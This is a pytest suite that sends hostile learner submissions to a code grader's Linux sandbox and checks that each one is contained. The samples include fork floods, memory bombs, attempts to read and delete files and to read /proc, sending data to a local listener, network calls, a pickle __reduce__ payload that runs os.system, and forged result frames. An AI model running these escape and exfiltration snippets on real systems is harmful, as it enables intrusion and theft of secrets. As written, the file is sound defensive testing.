"""Hostile submissions graded through the real path: ``grade_code`` → sandboxed child → decode → compare.

Every attack is a learner submission to a built-in question (``softmax_function``, or ``ridge_blank`` for
in-place updates) and goes through exactly what ``eshikaku submit`` runs. For each one we check:

* the verdict is never a pass (the few attacks that compute the right values *and* try a side effect
  say so with ``may_pass=True``: for them the side effect is what must not happen);
* nothing leaked: the result's message, traceback, stdout, case messages, text report and JSON contain
  no hidden input (e.g. 1000.0) and no secret the attack went after;
* nothing survived: every submission tags itself (and so anything it forks) with a marker unique to the
  test, in its comm name, its argv (``/proc/PID/cmdline``) and its environment block
  (``/proc/PID/environ``); no task may carry the marker once ``grade_code`` has returned;
* the grader side is alive: the same zygote serves the next submission, and a right softmax passes;
* bounded time: each attack is graded within ``TIME_BOUND`` seconds.

Each attack is itself bounded (a few hundred forks at most, memory stops at 3 GiB, 100 MB of output,
loops that end by themselves), so a broken sandbox fails its test instead of the machine.
"""

from __future__ import annotations

import dataclasses
import errno
import json
import os
import secrets
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import numpy as np
import pytest
from survivors import local_listener, processes_named, wait_until_gone

from grader.bank.cases import build_cases
from grader.bank.loader import load_bank
from grader.grading.codegrade import CodeResult, grade_code, shared_sandbox
from grader.grading.report import result_json, result_text
from grader.grading.source import solution_source

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the attacks target the Linux sandbox")

ROOT = Path(__file__).resolve().parents[1]
BANK = load_bank()
SOFTMAX = BANK.questions["softmax_function"]
RIDGE = BANK.questions["ridge_blank"]
SEED = 4242  # fixed, so that the hidden inputs we look for in the output are known
TIME_BOUND = 20.0  # generous for 2 loaded cores; the question's own limits are 2 s CPU and 5 s wall

RIGHT_SOFTMAX = """
import numpy as np
def softmax(x):
    z = x - np.max(x, axis=-1, keepdims=True)
    e = np.exp(z)
    return e / np.sum(e, axis=-1, keepdims=True)
"""
RIGHT_RIDGE = solution_source(RIDGE)
assert RIGHT_RIDGE is not None and "import numpy as np" in RIGHT_RIDGE  # the whole-template form

# Distinctive lines of protected files: they must never show up in anything a learner sees.
QUESTION_FILE = ROOT / "questions" / "03-1_forward" / "softmax_function.yaml"
REFERENCE_FILE = ROOT / "reference" / "activations.py"
PROTECTED_SNIPPETS = ("reference: reference.activations:softmax", "seed 004 Q6 の 1 次元版",
                      "ゼロから作る Deep Learning", "**pre-activation**")

# Prepended to every attack: tag this process with the test's marker, so that it and anything it forks
# or threads it starts can be found in /proc afterwards. comm (PR_SET_NAME) is per task and inherited by
# new threads and children; argv[0] and the PATH string of the initial environment block are rewritten
# in place, which is what /proc/PID/cmdline and /proc/PID/environ show.
TAG = """\
import ctypes as _esk_ct
def _esk_tag(marker):
    lib = _esk_ct.CDLL(None)
    data = marker.encode()
    lib.prctl(15, _esk_ct.c_char_p(data[:15]), 0, 0, 0)
    try:
        _esk_ct.memmove(_esk_ct.c_void_p.in_dll(lib, "program_invocation_name").value, data, len(data))
    except Exception:
        pass
    try:
        env = _esk_ct.POINTER(_esk_ct.c_void_p).in_dll(lib, "environ")
        i = 0
        while env[i]:
            text = _esk_ct.string_at(env[i])
            if text.startswith(b"PATH=") and len(text) >= 5 + len(data):
                _esk_ct.memmove(env[i] + 5, data, len(data))
                break
            i += 1
    except Exception:
        pass
_esk_tag({marker!r})
"""


# --------------------------------------------------------------------------- shared helpers


def new_marker() -> str:
    return "eskatk" + secrets.token_hex(5)  # 16 characters; its first 15 are the comm name


def tasks_with(marker: str) -> list[str]:
    """Every task on the machine whose comm, cmdline or environ carries ``marker``."""
    needle, comm = marker.encode(), marker[:15]
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    if needle in f.read():
                        found.append(f"{pid} ({name})")
            except OSError:
                pass
    return found + [f"{task} (comm)" for task in processes_named(comm)]


def assert_no_survivor(marker: str, within: float = 2.0) -> None:
    assert wait_until_gone(lambda: tasks_with(marker), within) == [], f"tasks tagged {marker} survived the submission"


def hidden_needles(question, seed: int = SEED) -> set[str]:
    """Text forms of the hidden inputs: full reprs of non-integer values, and large integer values
    (the 1000.0 / 1001.0 / -999.0 of the overflow cases) both as ``1000`` and ``1e+03``."""
    needles: set[str] = set()
    for instance in build_cases(question, seed):
        if not instance.spec.hidden:
            continue
        for value in instance.program["let"].values():
            for v in np.asarray(value, dtype=float).ravel():
                if v != int(v):
                    needles.add(repr(float(v)))
                elif abs(v) >= 100:
                    needles |= {str(int(v)), f"{v:.3e}".replace("e+0", "e+")}
    return needles


SOFTMAX_NEEDLES = hidden_needles(SOFTMAX)
RIDGE_NEEDLES = hidden_needles(RIDGE)
assert {"1000", "1001", "1002", "-999"} <= SOFTMAX_NEEDLES


def exposed_text(result: CodeResult) -> str:
    """Everything a learner (or a tool reading --json) gets to see of a verdict."""
    data = result_json(result)
    data.pop("seconds", None)  # a timing, whose digits could match by chance
    parts = [result.message, *result.traceback, result.stdout, result_text(result), json.dumps(data, ensure_ascii=False)]
    for case in result.cases:
        parts += [case.message, case.stdout]
    return "\n".join(parts)


def assert_no_leak(result: CodeResult, needles: set[str], extra: tuple[str, ...] = ()) -> None:
    text = exposed_text(result)
    leaked = sorted(n for n in (*needles, *extra, *PROTECTED_SNIPPETS) if n in text)
    assert not leaked, f"the verdict shows hidden data {leaked[:5]}:\n{text[:1500]}"


def grade_right_softmax() -> CodeResult:
    return grade_code(SOFTMAX, RIGHT_SOFTMAX, SEED + 1)


def check_healthy(zygote_before: int | None) -> None:
    """The grader's sandbox still serves, with the same zygote, and a right submission passes."""
    result = grade_right_softmax()
    assert result.passed, f"the next normal submission did not pass: {result.status} {result.message}"
    assert shared_sandbox().zygote_pid == zygote_before, "the zygote was killed or restarted by the attack"


def failures(result: CodeResult) -> str:
    return "; ".join(f"{c.name}: {c.message}" for c in result.cases if not c.passed) or result.message


def attack(source: str, question=SOFTMAX, *, may_pass: bool = False, secret_strings: tuple[str, ...] = (),
           bound: float = TIME_BOUND) -> CodeResult:
    """Grade ``source`` (tagged with a fresh marker) and run every common check; return the verdict.

    ``may_pass=True`` is only for attacks whose values are right and whose point is a side effect:
    the caller then asserts that the side effect did not happen.
    """
    marker = new_marker()
    zygote = shared_sandbox().zygote_pid
    source = TAG.format(marker=marker) + textwrap.dedent(source)
    started = time.monotonic()
    crash: BaseException | None = None
    result: CodeResult | None = None
    try:
        result = grade_code(question, source, SEED)
    except Exception as exc:
        crash = exc
    elapsed = time.monotonic() - started
    assert_no_survivor(marker)
    check_healthy(zygote)
    if crash is not None:
        pytest.fail(f"grade_code raised {type(crash).__name__}: {crash} (a submission must get a verdict, "
                    f"never make the grader raise)")
    assert result is not None
    first = result.cases[0].message if result.cases else result.message
    test = os.environ.get("PYTEST_CURRENT_TEST", "").split("::")[-1].replace(" (call)", "")
    print(f"\n{test} [{elapsed:.2f} s] {result.status} score={result.score:.2f}: {first[:160]}")  # shown with -s
    assert elapsed < bound, f"grading took {elapsed:.1f} s"
    if not may_pass:
        assert not result.passed, "the attack passed"
    assert_no_leak(result, SOFTMAX_NEEDLES if question is SOFTMAX else RIDGE_NEEDLES, secret_strings)
    return result


def public_message(result: CodeResult) -> str:
    """The message of the first (public) case: attacks report what they could do by raising there."""
    assert result.status == "graded", result.message
    return result.cases[0].message


def reported(result: CodeResult) -> dict[str, str]:
    """The JSON an attack raised in the public case (``raise RuntimeError(json.dumps(report))``)."""
    message = public_message(result)
    assert message.startswith("RuntimeError が発生しました: "), message
    return json.loads(message[len("RuntimeError が発生しました: "):])


# --------------------------------------------------------------------------- the helpers themselves


def test_the_marker_scan_finds_a_tagged_process_and_its_thread():
    marker = new_marker()
    code = TAG.format(marker=marker) + "import threading, time\nthreading.Thread(target=time.sleep, args=(30,)).start()\ntime.sleep(30)\n"
    proc = subprocess.Popen([sys.executable, "-c", code])
    try:
        deadline = time.monotonic() + 10
        kinds: list[str] = []
        while time.monotonic() < deadline and not ({"cmdline", "environ"} <= set(kinds) and kinds.count("comm") >= 2):
            found = tasks_with(marker)
            kinds = [f.rpartition("(")[2].rstrip(")") for f in found]
            time.sleep(0.05)
        assert any("(cmdline)" in f for f in found), found
        assert any("(environ)" in f for f in found), found
        assert sum("(comm)" in f for f in found) >= 2, found  # the process and its thread
    finally:
        proc.kill()
        proc.wait()
    assert_no_survivor(marker)


def test_a_right_softmax_and_a_right_ridge_pass_with_every_layer():
    result = grade_right_softmax()
    assert result.passed, failures(result)
    assert {"fork", "rlimits", "nocaps", "seccomp"} <= set(result.layers)
    assert any(layer.startswith("landlock") for layer in result.layers), result.layers
    ridge = grade_code(RIDGE, RIGHT_RIDGE, SEED)
    assert ridge.passed, failures(ridge)


def test_the_leak_check_sees_hidden_inputs():
    wrong = grade_code(SOFTMAX, "def softmax(x):\n    return x\n", SEED)
    forged = dataclasses.replace(wrong, stdout="[1000.0, 1001.0, 1002.0]")
    with pytest.raises(AssertionError):
        assert_no_leak(forged, SOFTMAX_NEEDLES)
    assert_no_leak(wrong, SOFTMAX_NEEDLES)


# --------------------------------------------------------------------------- resources: CPU, memory, output


@pytest.mark.parametrize("source", [
    # a pure-Python infinite loop (ends by itself after 30 s if no limit stops it)
    """
    import time
    def softmax(x):
        end = time.monotonic() + 30
        while time.monotonic() < end:
            pass
    """,
    # busy NumPy: matmul and einsum repeated on large arrays (BLAS is single-threaded in the child)
    """
    import time
    import numpy as np
    def softmax(x):
        a = np.random.rand(1500, 1500)
        end = time.monotonic() + 30
        while time.monotonic() < end:
            a = np.tanh(a @ a) + np.einsum("ij,jk->ik", a, a.T)
        return a
    """,
    # the same loop ignoring SIGXCPU: the hard CPU limit (SIGKILL) still ends it
    """
    import signal, time
    signal.signal(signal.SIGXCPU, signal.SIG_IGN)
    def softmax(x):
        end = time.monotonic() + 30
        while time.monotonic() < end:
            pass
    """,
], ids=["infinite-loop", "busy-numpy", "ignore-sigxcpu"])
def test_cpu_burners_are_stopped(source):
    result = attack(source)
    assert result.status == "graded"
    assert "時間" in result.cases[0].message, result.cases[0].message  # CPU or wall, whichever first
    assert all(not c.passed for c in result.cases)


def test_ignoring_sigterm_and_sleeping_times_out():
    # ignore SIGTERM (and SIGINT) then sleep 30 s: only the wall deadline's SIGKILL ends it
    result = attack("""
        import signal, time
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        def softmax(x):
            time.sleep(30)
    """)
    assert "時間" in result.cases[0].message, result.cases[0].message


def test_memory_bomb_is_a_memory_error():
    # grow a list of 64 MiB blocks up to 3 GiB, then one 3 GiB NumPy array. The blocks reserve address
    # space without touching their pages, so the limit is reached at once even on a loaded machine
    # (writing a GiB of pages could outlast the wall-clock limit there, and the limit is on address space).
    result = attack("""
        import numpy as np
        def softmax(x):
            blocks = []
            for _ in range(48):
                blocks.append(np.empty(64 << 20, dtype=np.uint8))
            return np.ones((3 << 30) // 8)
    """)
    assert "MemoryError" in result.cases[0].message or "メモリ" in result.cases[0].message, failures(result)


def test_memory_bomb_at_import_time():
    # the same 3 GiB before the entry is even defined
    result = attack("""
        import numpy as np
        hog = np.ones((3 << 30) // 8)
        def softmax(x):
            return x
    """)
    assert result.status == "learner_error" and "MemoryError" in result.message, result.message


def test_deep_recursion_with_a_huge_recursion_limit_is_contained():
    # sys.setrecursionlimit(10**8): the C stack overflows (SIGSEGV) or the CPU limit hits first
    result = attack("""
        import sys
        sys.setrecursionlimit(10**8)
        def down(n):
            return down(n + 1) + 1
        def softmax(x):
            return down(0)
    """)
    message = result.cases[0].message
    assert any(word in message for word in ("異常終了", "RecursionError", "時間", "MemoryError")), message


@pytest.mark.parametrize("where", ["import", "call"])
def test_100_mb_of_stdout_is_cut(where):
    # 100 MB through os.write(1) and print, at import time or inside softmax
    flood = """
    os.write(1, b"PASS score 100%\\n")
    for _ in range(50):
        os.write(1, b"x" * (1 << 20))
    for _ in range(50):
        print("y" * (1 << 20))
    """
    source = "import os\n" + ("def softmax(x):\n" + textwrap.indent(textwrap.dedent(flood), "    ") + "    return x\n"
                              if where == "call" else textwrap.dedent(flood) + "def softmax(x):\n    return x\n")
    result = attack(source)
    assert len(result.stdout) <= 70_000 and all(len(c.stdout) <= 5000 for c in result.cases)


# --------------------------------------------------------------------------- processes


FORKS = {
    # os.fork in a loop (at most 300); children sleep 60 s
    "os.fork": """
        import os, time
        made = 0
        for _ in range(300):
            try:
                pid = os.fork()
            except OSError:
                break
            if pid == 0:
                time.sleep(60)
                os._exit(0)
            made += 1
    """,
    # multiprocessing.Process sleeping 60 s (at most 50)
    "multiprocessing": """
        import multiprocessing, time
        made = 0
        for _ in range(50):
            try:
                multiprocessing.Process(target=time.sleep, args=(60,)).start()
            except Exception:
                break
            made += 1
    """,
    # subprocess.Popen(['sleep', '60']) (at most 50)
    "subprocess": """
        import subprocess
        made = 0
        for _ in range(50):
            try:
                subprocess.Popen(["sleep", "60"])
            except Exception:
                break
            made += 1
    """,
    # the raw fork and clone syscalls through ctypes (at most 100 each)
    "ctypes-syscall": """
        import ctypes, os, time
        libc = ctypes.CDLL(None, use_errno=True)
        made = 0
        for call in (lambda: libc.fork(), lambda: libc.syscall(57), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
            for _ in range(100):
                pid = call()
                if pid == 0:
                    time.sleep(60)
                    os._exit(0)
                if pid < 0:
                    break
                made += 1
    """,
}


@pytest.mark.parametrize("flood", list(FORKS), ids=list(FORKS))
@pytest.mark.parametrize("where", ["import", "call"])
def test_fork_floods_are_denied_and_leave_nothing(flood, where):
    body = textwrap.dedent(FORKS[flood])
    if where == "import":
        source = body + "def softmax(x):\n    raise RuntimeError(f'made {made}')\n"
    else:
        source = "def softmax(x):\n" + textwrap.indent(body, "    ") + "    raise RuntimeError(f'made {made}')\n"
    result = attack(source)
    assert public_message(result) == "RuntimeError が発生しました: made 0", public_message(result)


def test_a_child_process_left_running_does_not_survive():
    # right values, plus a forked child (or a Popen) meant to outlive the run: passing is acceptable,
    # a survivor is not (the marker scan in attack() checks it)
    attack(RIGHT_SOFTMAX + """
import os, subprocess, time
try:
    if os.fork() == 0:
        time.sleep(60)
        os._exit(0)
except OSError:
    pass
try:
    subprocess.Popen(["sleep", "60"], start_new_session=True)
except OSError:
    pass
""", may_pass=True)


def test_a_non_daemon_thread_left_running_does_not_survive():
    # right values, plus a non-daemon thread sleeping 60 s: passing is acceptable, the thread
    # (tagged with the marker through its comm name) must be gone, and grading must not wait for it
    result = attack(RIGHT_SOFTMAX + """
import threading, time
threading.Thread(target=time.sleep, args=(60,), daemon=False).start()
""", may_pass=True, bound=10.0)
    assert result.passed, failures(result)


def test_signals_to_the_zygote_and_the_grader_are_refused():
    # kill the zygote (the child's parent) and its process group with SIGKILL, signal the grader
    # (SIGUSR2, which the test catches), and kill the child's own group: every one must be refused
    got: list[int] = []
    previous = signal.signal(signal.SIGUSR2, lambda signum, frame: got.append(signum))
    try:
        result = attack(f"""
            import json, os, signal
            def softmax(x):
                report = {{}}
                zygote = os.getppid()
                for name, action in [
                    ("kill-zygote", lambda: os.kill(zygote, signal.SIGKILL)),
                    ("killpg-zygote", lambda: os.killpg(os.getpgid(zygote), signal.SIGKILL)),
                    ("signal-grader", lambda: os.kill({os.getpid()}, signal.SIGUSR2)),
                    ("killpg-own", lambda: os.killpg(0, signal.SIGKILL)),
                ]:
                    try:
                        action()
                        report[name] = "allowed"
                    except OSError as exc:
                        report[name] = type(exc).__name__
                raise RuntimeError(json.dumps(report))
        """)
        time.sleep(0.2)
    finally:
        signal.signal(signal.SIGUSR2, previous)
    assert got == [], "the grader received the child's signal"
    assert set(reported(result).values()) == {"PermissionError"}, reported(result)


# --------------------------------------------------------------------------- ways to end the process


EXITS = {
    # sys.exit(0) while the module loads
    "sys.exit-import": "import sys\nsys.exit(0)\ndef softmax(x):\n    return x\n",
    # os._exit(0) while the module loads
    "os._exit-import": "import os\nos._exit(0)\ndef softmax(x):\n    return x\n",
    # os._exit with the sandbox's own "entry returned" code while the module loads
    "os._exit-101-import": "import os\nos._exit(101)\ndef softmax(x):\n    return x\n",
    # sys.exit(0) inside softmax
    "sys.exit-call": "import sys\ndef softmax(x):\n    sys.exit(0)\n",
    # os._exit(0) inside softmax
    "os._exit-call": "import os\ndef softmax(x):\n    os._exit(0)\n",
    # os._exit(101) ("entry returned") inside softmax
    "os._exit-101-call": "import os\ndef softmax(x):\n    os._exit(101)\n",
    # raise SystemExit inside softmax
    "SystemExit-call": "def softmax(x):\n    raise SystemExit(0)\n",
    # raise KeyboardInterrupt inside softmax
    "KeyboardInterrupt-call": "def softmax(x):\n    raise KeyboardInterrupt\n",
    # abort() inside softmax
    "abort-call": "import os\ndef softmax(x):\n    os.abort()\n",
    # a segfault inside softmax
    "segfault-call": "import ctypes\ndef softmax(x):\n    ctypes.string_at(0)\n",
}


@pytest.mark.parametrize("name", list(EXITS), ids=list(EXITS))
def test_ending_the_process_early_is_never_a_pass(name):
    result = attack(EXITS[name])
    if name.endswith("import"):
        assert result.status == "learner_error", result
    else:
        assert result.status == "graded" and result.score == 0.0, failures(result)


# --------------------------------------------------------------------------- files


def test_files_outside_the_scratch_dir_cannot_be_written_or_deleted(tmp_path):
    # delete a canary file, write next to it, append to it, rename it; write into the checkout and
    # delete a file there (a victim this test creates); write into /tmp
    canary = tmp_path / "canary.txt"
    canary.write_text("precious")
    token = secrets.token_hex(4)
    in_project = ROOT / f".attack-pwned-{token}.txt"
    victim = ROOT / f".attack-victim-{token}.txt"
    in_tmp = Path(f"/tmp/eshikaku-attack-{token}.txt")
    victim.write_text("victim")
    try:
        result = attack(f"""
            import json, os
            def softmax(x):
                report = {{}}
                def attempt(name, action):
                    try:
                        action()
                        report[name] = "allowed"
                    except OSError as exc:
                        report[name] = type(exc).__name__
                attempt("delete", lambda: os.remove({str(canary)!r}))
                attempt("write-next-to", lambda: open({str(tmp_path / "planted.txt")!r}, "w").write("x"))
                attempt("append", lambda: open({str(canary)!r}, "a").write("x"))
                attempt("rename", lambda: os.rename({str(canary)!r}, {str(tmp_path / "moved.txt")!r}))
                attempt("project-write", lambda: open({str(in_project)!r}, "w").write("x"))
                attempt("project-delete", lambda: os.remove({str(victim)!r}))
                attempt("tmp-write", lambda: open({str(in_tmp)!r}, "w").write("x"))
                attempt("scratch-write", lambda: open("mine.txt", "w").write("x"))  # control: allowed
                raise RuntimeError(json.dumps(report))
        """)
        outcomes = reported(result)
        assert outcomes.pop("scratch-write") == "allowed"
        assert set(outcomes.values()) == {"PermissionError"}, outcomes
        assert sorted(p.name for p in tmp_path.iterdir()) == ["canary.txt"]
        assert canary.read_text() == "precious"
        assert victim.read_text() == "victim"
        assert not in_project.exists() and not in_tmp.exists()
    finally:
        for path in (victim, in_project, in_tmp):
            path.unlink(missing_ok=True)


def test_question_yaml_reference_source_and_a_secret_canary_are_unreadable(tmp_path):
    # read the question YAML, the reference source and a secret canary; print them, raise them and
    # return their bytes as the "result": none of it may be readable, let alone shown
    secret = "canary-" + secrets.token_hex(8)
    canary = tmp_path / "secret.txt"
    canary.write_text(secret)
    paths = [str(QUESTION_FILE), str(REFERENCE_FILE), str(canary)]
    result = attack(f"""
        import json
        import numpy as np
        stolen, report = b"", {{}}
        for path in {paths!r}:
            try:
                with open(path, "rb") as f:
                    data = f.read()
                stolen += data
                report[path] = "read"
            except OSError as exc:
                report[path] = type(exc).__name__
        print(stolen.decode(errors="replace"))
        def softmax(x):
            if stolen:
                return np.frombuffer(stolen, dtype=np.uint8).astype(float)
            raise RuntimeError(json.dumps(report))
    """, secret_strings=(secret,))
    assert set(reported(result).values()) == {"PermissionError"}, reported(result)


def test_proc_of_the_zygote_and_the_grader_gives_nothing():
    # read /proc/self/environ, and the zygote's and the grader's /proc entries (environ, cmdline, maps,
    # mem, status): Landlock allows none of /proc
    grader = os.getpid()
    result = attack(f"""
        import json, os
        def softmax(x):
            read, denied = [], []
            for pid in ("self", str(os.getppid()), "{grader}"):
                for name in ("environ", "cmdline", "maps", "mem", "status"):
                    try:
                        with open(f"/proc/{{pid}}/{{name}}", "rb") as f:
                            f.read(64)
                        read.append(f"{{pid}}/{{name}}")
                    except OSError as exc:
                        denied.append(type(exc).__name__)
            raise RuntimeError(json.dumps({{"read": read, "denied": sorted(set(denied)), "count": len(denied)}}))
    """)
    outcomes = reported(result)
    # in the PID namespace the zygote has no pid (getppid() is 0): /proc/0 does not even exist
    assert outcomes["read"] == [] and outcomes["count"] == 15, outcomes
    assert set(outcomes["denied"]) <= {"PermissionError", "FileNotFoundError"}, outcomes


# --------------------------------------------------------------------------- the grader's own code


@pytest.mark.parametrize("statement", [
    "import grader",
    "import grader.grading.codegrade",
    "import reference",
    "from reference.activations import softmax",  # cheating with the reference itself
    "import cli",
    "import questions",
], ids=["grader", "grader.grading.codegrade", "reference", "reference-softmax", "cli", "questions"])
def test_importing_the_grader_or_the_reference_fails(statement):
    result = attack(statement + "\n")
    assert result.status == "learner_error" and "読み込み中" in result.message, result.message
    assert "Error" in result.message


def test_unsealing_imports_still_cannot_load_the_reference():
    # remove the import blocker and put the checkout back on sys.path, then import the reference
    result = attack(f"""
        import sys
        sys.meta_path[:] = [f for f in sys.meta_path if "Sealed" not in type(f).__name__]
        sys.path.insert(0, {str(ROOT)!r})
        from reference.activations import softmax
    """)
    assert result.status == "learner_error", result
    assert "PermissionError" in result.message or "ModuleNotFoundError" in result.message, result.message


# --------------------------------------------------------------------------- network


def test_tcp_to_a_listener_of_the_test_never_connects():
    # connect to a listener this test runs on 127.0.0.1 and send the inputs: it must see nothing
    with local_listener() as (port, seen):
        result = attack(f"""
            import json, socket
            def softmax(x):
                report = []
                for _ in range(3):
                    try:
                        socket.create_connection(("127.0.0.1", {port}), timeout=1).sendall(x.tobytes())
                        report.append("connected")
                    except OSError as exc:
                        report.append(type(exc).__name__)
                raise RuntimeError(json.dumps(dict(enumerate(report))))
        """)
    assert seen == [], "the listener got a connection from the sandbox"
    assert "connected" not in reported(result).values(), reported(result)


def test_dns_and_http_fail():
    # resolve a name, fetch a URL over HTTP, and send UDP to a public resolver
    result = attack("""
        import json, socket, urllib.request
        def softmax(x):
            report = {}
            for name, action in [
                ("dns", lambda: socket.getaddrinfo("example.com", 80)),
                ("http", lambda: urllib.request.urlopen("http://example.com/", timeout=2).read(10)),
                ("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))),
            ]:
                try:
                    action()
                    report[name] = "allowed"
                except Exception as exc:
                    report[name] = type(exc).__name__
            raise RuntimeError(json.dumps(report))
    """)
    assert "allowed" not in reported(result).values(), reported(result)


# --------------------------------------------------------------------------- lying results


LIARS = {
    # an object equal to everything
    "eq-always-true": """
        class Liar:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        def softmax(x):
            return Liar()
    """,
    # an ndarray subclass whose ==, __array_function__ and __array_ufunc__ lie
    "ndarray-subclass": """
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array_function__(self, func, types, args, kwargs): return True
            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.ones(1, dtype=bool)
        def softmax(x):
            return np.zeros(x.shape).view(Liar)
    """,
    # __array__ returns a different array on every call (right-looking first, garbage after)
    "lying-__array__": """
        import numpy as np
        class Liar:
            calls = 0
            def __init__(self, x): self.x = x
            def __array__(self, dtype=None, copy=None):
                Liar.calls += 1
                return np.full(self.x.shape, 1e9 * Liar.calls)
        def softmax(x):
            return Liar(x)
    """,
    # a duck array with __array_function__ / __array_ufunc__ that say "close" to everything
    "duck-__array_function__": """
        import numpy as np
        class Duck:
            shape = (3,)
            dtype = np.dtype(float)
            ndim = 1
            def __array_function__(self, func, types, args, kwargs): return True
            def __array_ufunc__(self, *args, **kwargs): return True
            def __eq__(self, other): return True
            def __len__(self): return 3
            def __getitem__(self, i): return 1.0
        def softmax(x):
            return Duck()
    """,
    # an object array whose items are all liars
    "object-array-of-liars": """
        import numpy as np
        class Liar(float):
            def __eq__(self, other): return True
            def __sub__(self, other): return 0.0
            def __abs__(self): return 0.0
        def softmax(x):
            out = np.empty(x.shape, dtype=object)
            out[...] = Liar(0.5)
            return out
    """,
    # a fully masked array: no value at all
    "masked-all": """
        import numpy as np
        def softmax(x):
            return np.ma.masked_all(x.shape)
    """,
    # a list / nested Python data instead of an array
    "nested-list-of-liars": """
        class Liar(float):
            def __eq__(self, other): return True
        def softmax(x):
            return [[Liar(0.5)] * 3] * 3
    """,
}


@pytest.mark.parametrize("name", list(LIARS), ids=list(LIARS))
def test_lying_results_fail(name):
    result = attack(LIARS[name])
    assert result.status == "graded" and result.score == 0.0, failures(result)


def test_a_reduce_payload_is_never_unpickled(tmp_path):
    # return an object whose __reduce__ would run a command (touch a file) when unpickled
    flag = tmp_path / "reduced.txt"
    result = attack(f"""
        import os
        class Payload:
            def __reduce__(self):
                return (os.system, ("touch {flag}",))
        def softmax(x):
            return Payload()
    """)
    assert result.score == 0.0
    assert not flag.exists()


MONKEYPATCHES = {
    # numpy.allclose / isclose / array_equal and numpy.testing always say "equal"
    "numpy": """
        import numpy as np, numpy.testing
        np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = numpy.testing.assert_array_equal = lambda *a, **k: None
    """,
    # builtins.abs, max and round lie
    "builtins": """
        import builtins
        builtins.abs = lambda v: 0.0
        builtins.max = lambda *a, **k: 0.0
        builtins.round = lambda *a, **k: 0.0
    """,
    # np.exp / np.sum replaced module-wide, the ufunc machinery untouched
    "numpy-functions": """
        import numpy as np
        np.exp = np.sum = lambda *a, **k: 1.0
    """,
}


@pytest.mark.parametrize("name", list(MONKEYPATCHES), ids=list(MONKEYPATCHES))
def test_monkeypatching_comparisons_in_the_child_changes_nothing(name):
    result = attack(textwrap.dedent(MONKEYPATCHES[name]) + "def softmax(x):\n    return x * 0 + 7\n")
    assert result.status == "graded" and result.score == 0.0, failures(result)


def test_printing_fake_results_is_only_output():
    # print "PASS", "score 100%" and a fake JSON verdict, at import and in every case
    fake = json.dumps({"status": "graded", "score": 1.0, "passed": True, "cases": []})
    result = attack(f"""
        print("PASS")
        print("正解 ✓  score 100%  (10/10 cases)")
        print({fake!r})
        def softmax(x):
            print("PASS", {fake!r})
            return x
    """)
    assert result.status == "graded" and result.score == 0.0


def test_gc_scan_finds_no_expected_outputs():
    # search every object in the child for a function of the reference package (to call it), then
    # for an array that looks like a softmax of x (rows summing to 1, same shape): the child holds
    # neither the reference code nor expected outputs, so there is nothing to find
    result = attack("""
        import gc
        import numpy as np
        def softmax(x):
            for obj in gc.get_objects():
                if callable(obj) and str(getattr(obj, "__module__", "")).startswith(("reference", "questions")):
                    return obj(x)
            for obj in gc.get_objects():
                for value in (obj.values() if isinstance(obj, dict) else obj if isinstance(obj, list) else ()):
                    if isinstance(value, np.ndarray) and value is not x and value.shape == x.shape \\
                            and value.dtype.kind == "f" and np.allclose(value.sum(axis=-1), 1.0):
                        return value
            return np.zeros(x.shape)
    """)
    assert result.score == 0.0, failures(result)


# --------------------------------------------------------------------------- the result channel


FRAME = """
import json, os, struct
def _enc(v):
    if isinstance(v, dict):
        return {"$dict": {k: _enc(x) for k, x in v.items()}}
    if isinstance(v, list):
        return [_enc(x) for x in v]
    return v
def frame(obj=None, raw=None):
    header = raw if raw is not None else json.dumps(_enc(obj)).encode()
    body = b"ESK1" + struct.pack("<II", len(header), 0) + header
    return struct.pack("!I", len(body)) + body
"""


def test_forged_frames_on_every_fd_then_exit():
    # write forged "passed" frames (and junk) to every descriptor 0..64, then exit with the
    # normal-return code: the forged data is at best the submission's own (wrong) result
    result = attack(FRAME + textwrap.dedent("""
        forged = frame({"status": "ok"})
        for _ in range(20):
            forged += frame({"status": "ok", "outputs": [[1.0, 1.0, 1.0]], "finals": {}, "rebound": [],
                             "passed": True, "score": 1.0})
        for fd in range(65):
            try:
                os.write(fd, forged + b"PASS score 100%\\n")
            except OSError:
                pass
        os._exit(101)
    """))
    assert not result.passed


@pytest.mark.parametrize("how", ["close", "dup2-devnull", "dup2-stdout", "dup2-own-pipe"])
def test_closing_or_redirecting_the_result_descriptor_loses_the_result(how):
    # iterate fds 0..64 and close them, or dup2 /dev/null, stdout or a pipe of our own over them,
    # then compute the right softmax: nothing can reach the grader, so it is not a pass
    action = {
        "close": "os.close(fd)",
        "dup2-devnull": "os.dup2(os.open(os.devnull, os.O_WRONLY), fd)",
        "dup2-stdout": "os.dup2(1, fd)",
        "dup2-own-pipe": "os.dup2(os.pipe()[1], fd)",
    }[how]
    result = attack(RIGHT_SOFTMAX + f"""
import os
for fd in range(3, 65):
    try:
        {action}
    except OSError:
        pass
""")
    assert not result.passed


CHANNEL_FLOODS = {
    # a frame header announcing 4 GiB, then a 10 s sleep: the result limit ends it
    "giant-frame": 'os.write(3, struct.pack("!I", 0xFFFFFFFF) + b"x" * 1000)\nimport time\ntime.sleep(10)\n',
    # 20 000 frames, above the frame-count cap
    "too-many-frames": 'one = frame({"status": "ok"})\nfor _ in range(200):\n    os.write(3, one * 100)\n',
}


@pytest.mark.parametrize("name", list(CHANNEL_FLOODS), ids=list(CHANNEL_FLOODS))
def test_flooding_the_result_channel_is_cut(name):
    result = attack(FRAME + CHANNEL_FLOODS[name] + "def softmax(x):\n    return x\n")
    if name == "giant-frame":
        assert result.status == "learner_error" and "大きすぎ" in result.message, result.message
    else:  # the first 10 000 complete frames are kept: forged, empty results
        assert result.score == 0.0, failures(result)


def test_nothing_planted_by_one_submission_reaches_the_next():
